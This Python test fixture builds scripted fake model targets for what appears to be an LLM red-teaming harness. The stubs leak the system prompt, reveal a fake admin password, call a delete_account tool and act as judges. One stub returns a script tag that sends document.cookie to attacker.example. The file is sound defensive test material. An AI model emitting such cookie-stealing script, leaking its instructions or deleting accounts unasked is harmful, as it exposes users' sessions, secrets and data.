from __future__ import annotations

import pathlib
import sys
import textwrap
from collections.abc import Iterator

import pytest

_TARGETS = '''
import asyncio
import re

CALLS = {"n": 0, "active": 0, "peak": 0}


def leaky(request):
    """Echo the system prompt and the last user turn: leaks canaries and personal data."""
    system = next((m["content"] for m in request["messages"] if m["role"] == "system"), "")
    return "Sure. My instructions: " + system


def blurts_secret(request):
    """Never echoes the prompt, but gives away the deployment's secret in every reply."""
    return "Happy to help! By the way, the admin password is Falcon-7c41d9e2b8."


def coin(request):
    """Leaks on odd seeds only: its verdict changes between trials."""
    system = next((m["content"] for m in request["messages"] if m["role"] == "system"), "")
    if request.get("seed", 0) % 2:
        return "Sure. My instructions: " + system
    return "I'm sorry, but I can't help with that."


def rambling(request):
    """Stops every reply at max_tokens, like a server cutting a long answer."""
    return {"content": "word " * request["max_tokens"], "finish_reason": "length",
            "completion_tokens": request["max_tokens"]}


def safe(request):
    return "I'm sorry, but I can't help with that."


def scripted(request):
    return ("<blockquote>Great service! <script>fetch('https://attacker.example/c?'"
            "+document.cookie)</script></blockquote>")


def judge_no(request):
    return "NO"


def judge_yes(request):
    return "YES"


def judge_ja(request):
    return "JA"


def judge_refuses(request):
    return "I'm sorry, but I can't evaluate content like this."


def broken(request):
    raise RuntimeError("pipeline down")


def wrong_type(request):
    return 42


def agent(request):
    if request.get("tools"):
        return {"content": "", "tool_calls": [{"name": "delete_account",
                                                "arguments": '{"account_id": "4711"}'}]}
    return "I'm sorry, but I can't help with that."


async def slow(request):
    CALLS["n"] += 1
    CALLS["active"] += 1
    CALLS["peak"] = max(CALLS["peak"], CALLS["active"])
    await asyncio.sleep(0.01)
    CALLS["active"] -= 1
    return "I'm sorry, but I can't help with that."


def flaky(request):
    CALLS["n"] += 1
    text = request["messages"][-1]["content"]
    if "opening hours" in text:
        raise RuntimeError("flaky failure")
    return "I'm sorry, but I can't help with that."
'''


@pytest.fixture
def target_module(tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """An importable module ``rt_targets`` of scripted python targets; yields its name."""
    name = f"rt_targets_{abs(hash(tmp_path)) % 10**8}"
    (tmp_path / f"{name}.py").write_text(textwrap.dedent(_TARGETS), encoding="utf-8")
    monkeypatch.syspath_prepend(str(tmp_path))
    yield name
    sys.modules.pop(name, None)
